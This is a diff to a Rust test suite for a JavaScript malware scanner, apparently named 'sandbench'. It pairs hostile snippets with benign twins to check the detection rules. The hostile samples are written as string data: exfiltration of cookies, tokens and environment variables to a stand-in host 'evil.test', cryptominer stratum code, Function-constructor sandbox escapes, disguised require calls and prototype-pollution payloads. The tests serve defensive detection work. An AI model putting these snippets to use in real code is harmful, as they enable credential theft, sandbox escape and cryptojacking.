@@ -6,7 +6,7 @@
 mod common;
 
 use common::scan::{finding, has, rule_ids};
-use sandbench::engine::scan::{scan, Verdict};
+use sandbench::engine::scan::{scan, scan_with, ScanContext, ScanOptions, Verdict};
 
 #[track_caller]
 fn fires(rule: &str, srcs: &[&str]) {
@@ -158,7 +158,17 @@ fn process_access() {
         ],
     );
     fires("process-exit", &["process.exit(1)", "process.kill(pid)"]);
-    quiet(&["if (process.env.NODE_ENV !== 'production') warn()"]);
+    // In a plugin, reaching the host's environment is itself process access; in a package
+    // audit, reading NODE_ENV is what every library does.
+    fires(
+        "process-env-read",
+        &["if (process.env.NODE_ENV !== 'production') warn()"],
+    );
+    let r = scan_with(
+        "if (process.env.NODE_ENV !== 'production') warn()",
+        &ScanOptions::in_context(ScanContext::Package),
+    );
+    assert_eq!(r.verdict, Verdict::Allow, "{:?}", rule_ids(&r));
 }
 
 #[test]
@@ -267,22 +277,47 @@ fn network_and_exfiltration() {
         &[
             "fetch('https://evil.test', { method: 'POST', body: JSON.stringify(process.env) })",
             "const data = JSON.stringify(process.env); navigator.sendBeacon(u, data)",
-            "xhr.send(document.cookie)",
-            "const fs = require('fs'); req.write(fs.readFileSync(p))",
+            "const xhr = new XMLHttpRequest(); xhr.open('POST', u); xhr.send(document.cookie)",
+            "const fs = require('fs'); const req = require('https').request(u); req.write(fs.readFileSync(p))",
+            "const ws = new WebSocket(u); ws.send(JSON.stringify({ pw: document.querySelector('#pw').value }))",
+            "const https = require('https'); const req = https.request(o); const body = { t: localStorage.getItem('token') }; req.end(JSON.stringify(body))",
         ],
     );
+    // Benign twins: a server writing a file to its own response, a client that reads a flag
+    // from the environment in one function and posts unrelated data in another, a callback
+    // that reads a file inside a request handler.
+    for src in [
+        "const fs = require('fs'); require('http').createServer((q, res) => { res.end(fs.readFileSync('index.html')) })",
+        "function off() { return process.env.NO_TRACK } async function post(d) { const ws = new WebSocket(u); ws.send(JSON.stringify(d)) }",
+        "res.write(fs.readFileSync(p))",
+    ] {
+        let got = rule_ids(&scan(src));
+        assert!(!got.contains(&"exfiltration"), "{src}: {got:?}");
+    }
 }
 
 #[test]
 fn cryptominers() {
+    // A miner's identity together with its behaviour.
     fires(
         "cryptominer",
         &[
-            "const pool = 'stratum+tcp://pool.minexmr.com:4444'",
-            "var miner = new CoinHive.Anonymous('key'); miner.start();",
-            "loadWasm('cryptonight.wasm')",
+            "const pool = 'stratum+tcp://pool.example:4444'; const s = net.connect(3333); s.write(JSON.stringify({ method: 'mining.subscribe' })); let nonce = 0;",
+            "var miner = new CoinHive.Anonymous('key', { throttle: 0.3, threads: navigator.hardwareConcurrency }); miner.start();",
+            "WebAssembly.instantiate(buf).then(m => { for (let nonce = 0; ; nonce++) if (m.exports.cryptonight_hash(nonce) < target) post(nonce) })",
+            // decoded, the configuration is stratum
+            "const c = JSON.parse(atob('eyJtIjoibWluaW5nLnN1Ym1pdCJ9')); const ws = new WebSocket(u); ws.send({ method: c.m, nonce });",
         ],
     );
+    // Names alone (a process table, a blocklist) are a low signal, never a block.
+    for src in [
+        "const KNOWN = { xmrig: 'XMRig CPU miner', coinhive: 'Coinhive (defunct)' };",
+        "const blocked = ['stratum+tcp://', 'cryptonight'];",
+    ] {
+        let r = scan(src);
+        assert_eq!(rule_ids(&r), vec!["miner-name"], "{src}");
+        assert_eq!(r.verdict, Verdict::Allow, "{src}");
+    }
 }
 
 #[test]
@@ -425,6 +460,11 @@ fn optional_chains_aliases_and_reflective_calls() {
     );
     fires(
         "dynamic-import",
+        &["import(u)", "import('https://cdn.example/x.js')"],
+    );
+    // A data: URL import is code made from text: scanned as code, reported as code injection.
+    fires(
+        "dom-code-injection",
         &["import('data:text/javascript,alert(1)')"],
     );
 }
@@ -508,4 +548,157 @@ fn user_written_decoder_functions_are_folded() {
         "encoded-exec",
         &["function dec(x) { return atob(x); } eval(dec(payload));"],
     );
+}
+
+#[test]
+fn code_text_handed_to_a_function_of_unseen_origin() {
+    // One hop from a host-made function (a promise resolver, an inspect hook's argument),
+    // a descriptor's value, a walk over keys: each is the Function constructor.
+    fires(
+        "constructor-chain",
+        &[
+            "const thenable = { then(resolve) { const F = resolve.constructor; resolve(F('return process')()) } }",
+            "const o = { [k](d, options) { const H = options.stylize.constructor; H('return process')() } }",
+            "class S { [k](a, b, inspect) { const { constructor: H } = inspect; H('return this')() } }",
+            "const all = Object.getOwnPropertyDescriptors(p); const { value: C } = all.constructor; const run = C('return process.mainModule')",
+            "let c = []; ['constructor', 'constructor'].forEach((n) => { c = c[n] }); const run = c; run('return process')()",
+            "const Fn = walk(Math.max, path); const g = Fn('return this')()",
+            "x.constructor('return global')",
+        ],
+    );
+    // Twins: functions the code wrote, a parameter, a field read through `this`, text that is
+    // no code for the host.
+    for src in [
+        "function run(code) { return code } run('return process')",
+        "const t = (s) => s.trim(); t('return this')",
+        "function f(cb) { cb('return this') }",
+        "const c = cfg.compile; c('return this.user.name')",
+        "const T = this.constructor; const copy = T('return value')",
+        "const F = Function; F('return this')()",
+    ] {
+        let got = rule_ids(&scan(src));
+        assert!(!got.contains(&"constructor-chain"), "{src}: {got:?}");
+    }
+}
+
+#[test]
+fn host_module_graph() {
+    fires(
+        "module-graph",
+        &[
+            "const secrets = require.main.require('./config/secrets')",
+            "const main = require.main; main.require('./lib/db')",
+            "let m = module; while (m.parent) { m = m.parent } m.children.map((c) => c.exports)",
+            "const kids = module.children",
+        ],
+    );
+    // Twins: is this file the entry point? Every CLI asks.
+    quiet(&[
+        "if (require.main === module) main()",
+        "if (!module.parent) start()",
+        "module.exports = { main: cfg.main, parent: node.parent }",
+    ]);
+}
+
+#[test]
+fn page_elements_that_send_data() {
+    fires(
+        "exfiltration",
+        &[
+            "const i = new Image(1, 1); i.src = 'https://c.example/p.gif?c=' + encodeURIComponent(document.cookie)",
+            "const img = document.createElement('img'); img.src = u + localStorage.getItem('token')",
+            "const f = document.createElement('form'); f.action = u; const x = document.createElement('input'); x.value = document.cookie; f.appendChild(x); f.submit()",
+            "const t = globalThis.fetch; t.call(globalThis, u, { method: 'POST', body: document.cookie })",
+        ],
+    );
+    fires(
+        "network-fetch",
+        &["const f = document.createElement('form'); f.action = u; f.submit()"],
+    );
+    // Twins: an image of the page's own, a form of plain values, a local `Image` class.
+    for src in [
+        "const i = new Image(); i.src = '/logo.png'",
+        "const f = document.createElement('form'); const x = document.createElement('input'); x.value = 'hello'; f.appendChild(x); f.submit()",
+        "class Image { constructor() { this.src = '' } } const i = new Image(); i.src = document.cookie",
+    ] {
+        let got = rule_ids(&scan(src));
+        assert!(!got.contains(&"exfiltration"), "{src}: {got:?}");
+    }
+}
+
+#[test]
+fn other_runtimes_process_apis() {
+    fires(
+        "child-process",
+        &[
+            "Bun.spawn(['sh', '-c', cmd])",
+            "const rt = globalThis.Bun; rt.spawnSync(['ls'])",
+            "const D = globalThis.Deno; new D.Command('sh', { args: ['-c', c] })",
+            "Deno.run({ cmd: ['sh'] })",
+        ],
+    );
+    // Twin: objects of the code's own with those names.
+    quiet(&[
+        "const Bun = { spawn() {} }; Bun.spawn(['ls'])",
+        "function f(Deno) { return new Deno.Command('x') }",
+    ]);
+}
+
+#[test]
+fn require_passed_into_a_function() {
+    // `require` handed to an IIFE (or picked by a typeof test) and called with a computed name.
+    for src in [
+        "(function (r, n) { var id = n.split('').reverse().join(''); r(id) })(typeof require === 'function' ? require : null, 'snd')",
+        "(function (load) { load(['child', 'process'].join('_')) })(require)",
+        "const req = typeof require !== 'undefined' ? require : undefined; req('f' + 's')",
+    ] {
+        let r = scan(src);
+        assert!(
+            r.findings
+                .iter()
+                .any(|f| f.category == sandbench::engine::Category::ModuleLoading && f.score >= 70),
+            "{src}: {:?}",
+            rule_ids(&r)
+        );
+    }
+    // Twin: a bundle's guard with literal names is plain use in a package audit.
+    let r = scan_with(
+        "const req = typeof require === 'function' ? require : null; const fs = req('fs');",
+        &ScanOptions::in_context(ScanContext::Package),
+    );
+    assert_eq!(r.verdict, Verdict::Allow, "{:?}", rule_ids(&r));
+}
+
+#[test]
+fn path_writers_of_the_codes_own_fed_a_prototype_path() {
+    let setter = "function putIn(o, path, v) { const ks = path.split('.'); let cur = o; \
+                  while (ks.length > 1) { const k = ks.shift(); cur = cur[k] || (cur[k] = {}) } cur[ks[0]] = v }";
+    let reducer = "function put(o, path, v) { const ps = path.split('.'); const last = ps.pop(); \
+                   ps.reduce((a, p) => (a[p] = a[p] || {}), o)[last] = v }";
+    let merge = "function merge(d, s) { for (const k in s) { if (typeof s[k] === 'object') merge(d[k], s[k]); else d[k] = s[k] } }";
+    for src in [
+        format!("{setter} putIn({{}}, '__proto__.admin', true)"),
+        format!("{setter} putIn({{}}, 'constructor.prototype.x', 1)"),
+        format!(
+            "{reducer} const req = {{ p: 'constructor.prototype.debug' }}; put({{}}, req.p, 1)"
+        ),
+        format!("{merge} merge({{}}, JSON.parse('{{\"__proto__\": {{\"role\": 1}}}}'))"),
+        format!("{setter} putIn({{}}, ['constructor', 'prototype', 'x'].join('.'), 1)"),
+    ] {
+        let got = rule_ids(&scan(&src));
+        assert!(got.contains(&"proto-pollution"), "{src}: {got:?}");
+    }
+    // Twins: the same writers fed honest paths; a guarded writer fed a bad one; a flat
+    // lookup table given `__proto__` as one of its names (no walk); a function's own text
+    // mentioning prototypes passed to a mixin.
+    for src in [
+        format!("{setter} putIn({{}}, 'db.host', 'localhost')"),
+        format!("{merge} merge({{}}, JSON.parse('{{\"a\": {{\"b\": 1}}}}'))"),
+        "function assignAt(o, path, v) { const ks = path.split('.'); let cur = o; for (const k of ks) { if (k === '__proto__' || k === 'constructor') return; cur = cur[k] = cur[k] || {} } } assignAt({}, '__proto__.x', 1)".to_string(),
+        "function makeMap(str) { const map = Object.create(null); for (const k of str.split(',')) map[k] = true; return map } makeMap('__proto__,__v_isRef')".to_string(),
+        "function mixin(obj) { for (const k of Object.keys(obj)) { let f = obj[k]; f = f[k]; _.prototype[k] = f } } mixin(function () { return X.constructor.prototype })".to_string(),
+    ] {
+        let got = rule_ids(&scan(&src));
+        assert!(!got.contains(&"proto-pollution"), "{src}: {got:?}");
+    }
 }
